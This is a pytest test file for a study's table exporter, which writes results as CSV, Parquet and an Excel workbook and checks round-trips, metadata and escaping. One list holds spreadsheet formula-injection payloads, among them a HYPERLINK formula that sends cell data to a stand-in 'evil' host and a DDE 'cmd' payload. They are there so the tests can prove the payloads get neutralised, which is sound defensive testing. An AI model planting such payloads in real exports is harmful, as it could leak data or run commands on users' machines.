"""Tables as CSV, as Parquet and as a workbook: the same in each, and safe to open."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from pyarrow import parquet

from ml_headcount_assets.export import KEYWORD_RESULTS, StudyResults, write_tables

from .conftest import Read, tables

TABLES = {
    *("headcount_intervals", "portfolio_intervals", "annotator_summary"),
    *("annotator_correlations", "predictive_checks", "companies", "rejects"),
}
NUMBERS = ["n_profiles", "headcount", "mean", "sd", "low", "median", "high", "share"]


@pytest.fixture
def out(results: StudyResults, tmp_path: Path) -> Path:
    write_tables(results, tmp_path / "new" / "out")
    return tmp_path / "new" / "out"


def test_every_table_comes_in_every_format_and_nothing_else(results, tmp_path: Path) -> None:
    files = write_tables(results, tmp_path / "out")
    names = {f"{name}.{kind}" for name in TABLES for kind in ("csv", "parquet")}
    assert {path.name for path in files} == names | {"results.xlsx", "datapackage.json"}
    assert sorted(files) == sorted((tmp_path / "out").iterdir())
    sheets = openpyxl.load_workbook(tmp_path / "out" / "results.xlsx").sheetnames
    assert set(sheets) == TABLES | {"about", "dictionary"}


def test_numbers_are_the_same_in_every_format(out: Path) -> None:
    stored = tables()["headcount_intervals"].set_index(["company_id", "estimator"])[NUMBERS]
    name = "headcount_intervals"
    for table, digits in (
        (pd.read_csv(out / f"{name}.csv", float_precision="round_trip"), 17),
        (pd.read_parquet(out / f"{name}.parquet"), 17),
        (pd.read_excel(out / "results.xlsx", sheet_name=name), 15),  # as many as Excel has
    ):
        written = table.set_index(["company_id", "estimator"])[NUMBERS].loc[stored.index]
        pd.testing.assert_frame_equal(
            written.astype("float"), stored.astype("float"), rtol=10.0**-digits, atol=0
        )


def test_no_evidence_is_an_empty_cell_and_not_zero(out: Path) -> None:
    lines = (out / "headcount_intervals.csv").read_text().splitlines()
    head = lines[0].split(",")
    dusk = next(line for line in lines if line.startswith("dusk,")).split(",")
    assert {dusk[head.index(name)] for name in ("low", "median", "high", "mean")} == {""}
    sheet = openpyxl.load_workbook(out / "results.xlsx")["headcount_intervals"]
    names = [cell.value for cell in sheet[1]]
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "dusk")
    assert row[names.index("median")].value is None


def test_who_a_row_is_about_stands_first(out: Path) -> None:
    columns = pd.read_csv(out / "headcount_intervals.csv").columns
    assert list(columns[:6]) == [
        *("company_id", "name", "cohort", "size_band", "country", "estimator")
    ]
    assert "company" not in columns


def test_a_name_is_no_formula_and_has_no_control_characters(out: Path) -> None:
    sheet = openpyxl.load_workbook(out / "results.xlsx")["companies"]
    place = [cell.value for cell in sheet[1]].index("name")
    cells = {row[0].value: row[place] for row in sheet.iter_rows(min_row=2)}
    assert cells["acme"].value == "=Acme <b>& Sons</b>"
    assert cells["acme"].data_type == "s"
    assert cells["bits"].value == "Bits Inc"
    # The other formats hold it as it is.
    assert pd.read_parquet(out / "companies.parquet")["name"][1] == "Bits\x0bInc"


def test_the_workbook_counts_rejects_and_the_files_list_them(out: Path) -> None:
    sheet = pd.read_excel(out / "results.xlsx", sheet_name="rejects")
    assert sheet["rows"].tolist() == [2, 1]
    assert len(pd.read_csv(out / "rejects.csv")) == 3


def test_lists_of_phrases_are_written_as_text(read: Read, tmp_path: Path) -> None:
    found = pd.DataFrame({"filter": ["broad"], "yes_terms": [["deep learning", "c++"]]})
    write_tables(read(**dict.fromkeys(KEYWORD_RESULTS, found)), tmp_path)
    assert pd.read_csv(tmp_path / "keyword_filters_found.csv")["yes_terms"][0] == (
        "deep learning; c++"
    )


def test_files_of_the_same_names_are_replaced_together(
    results: StudyResults, out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = {path.name: path.read_bytes() for path in out.iterdir()}

    def full(*_: object, **__: object) -> None:
        raise OSError("No space left on device")

    monkeypatch.setattr(pd, "ExcelWriter", full)
    changed = replace(results, companies=results.companies.assign(country="Chile"))
    with pytest.raises(OSError, match="No space"):
        write_tables(changed, out)
    assert {path.name: path.read_bytes() for path in out.iterdir()} == before
    monkeypatch.undo()
    write_tables(changed, out)
    assert set(pd.read_csv(out / "companies.csv")["country"]) == {"Chile"}


HOSTILE = [
    *('=HYPERLINK("http://evil/?"&A1,"x")', "=cmd|'/C calc'!A0", "@SUM(1+1)", "+1+cmd", "-2+3+cmd"),
    *("\t=1+1", "\r=1+1", "\uff1d1+1"),
]


def test_a_text_that_looks_like_a_formula_is_none_in_csv_either(results, tmp_path: Path) -> None:
    names = pd.Series(HOSTILE)
    companies = pd.concat([results.companies.head(1)] * len(names), ignore_index=True)
    named = companies.assign(name=names, cohort=names.astype("category"))
    write_tables(replace(results, companies=named), tmp_path)
    written = pd.read_csv(tmp_path / "companies.csv", keep_default_na=False)
    for column in ("name", "cohort"):
        assert written[column].tolist() == ["'" + name.replace("\r", "\n") for name in names]
    assert pd.read_parquet(tmp_path / "companies.parquet")["name"].tolist() == names.tolist()


def test_negative_numbers_are_no_formulas(results, tmp_path: Path) -> None:
    correlations = results.annotator_correlations.assign(median=-0.25)
    write_tables(replace(results, annotator_correlations=correlations), tmp_path)
    written = pd.read_csv(tmp_path / "annotator_correlations.csv")
    assert (written["median"] == -0.25).all()
    assert "'" not in (tmp_path / "annotator_correlations.csv").read_text()


def test_every_column_is_explained_wherever_one_may_look(out: Path) -> None:
    book = openpyxl.load_workbook(out / "results.xlsx")
    rows = list(book["dictionary"].iter_rows(min_row=2, values_only=True))
    words = {(table, column): (unit, meaning) for table, column, _, unit, meaning in rows}
    for name in TABLES:
        for column in pd.read_csv(out / f"{name}.csv").columns:
            assert words[name, column][1], (name, column)
    assert words["headcount_intervals", "median"][0] == "people"
    assert words["annotator_summary", "sensitivity_mean"][0] == "share, 0 to 1"
    package = json.loads((out / "datapackage.json").read_text())
    assert package["level"] == "95 % intervals"
    for resource in package["resources"]:
        header = list(pd.read_csv(out / resource["path"]).columns)
        assert [field["name"] for field in resource["schema"]["fields"]] == header
    field = parquet.read_schema(out / "headcount_intervals.parquet").field("median")
    assert field.metadata[b"unit"] == b"people"
    described = parquet.read_schema(out / "headcount_intervals.parquet").metadata
    assert described[b"description"] == b"The experts of a company, by an estimator"
    assert described[b"level"] == b"95 % intervals"


def test_a_workbook_shows_people_as_whole_numbers_and_says_none(read: Read, tmp_path: Path) -> None:
    write_tables(read(rejects=tables()["rejects"][:0]), tmp_path)
    book = openpyxl.load_workbook(tmp_path / "results.xlsx")
    sheet = book["headcount_intervals"]
    place = [cell.value for cell in sheet[1]].index("headcount")
    assert {row[place].number_format for row in sheet.iter_rows(min_row=2) if row[place].value} == {
        "#,##0"
    }
    assert book["rejects"].cell(2, 1).value == "none"


def test_joint_draws_form_totals(read: Read, tmp_path: Path) -> None:
    draws = tables()["headcount_intervals"][["company_id", "estimator", "evidence"]]
    draws = draws.assign(draws=[np.array([n, n + 1, -1]) for n in range(len(draws))])
    write_tables(read(headcount_draws=draws), tmp_path)
    stored = pd.read_parquet(tmp_path / "headcount_draws.parquet")
    assert "dusk" not in set(stored["company_id"]), "of no evidence there are no draws"
    own = stored[stored["estimator"] == "five_layer"]
    assert np.stack(own["draws"])[:, 0].tolist() == [0, 1, 2]
    schema = parquet.read_schema(tmp_path / "headcount_draws.parquet")
    assert schema.field("draws").metadata[b"unit"] == b"people"
    assert b"so that draws can be added" in schema.metadata[b"description"]
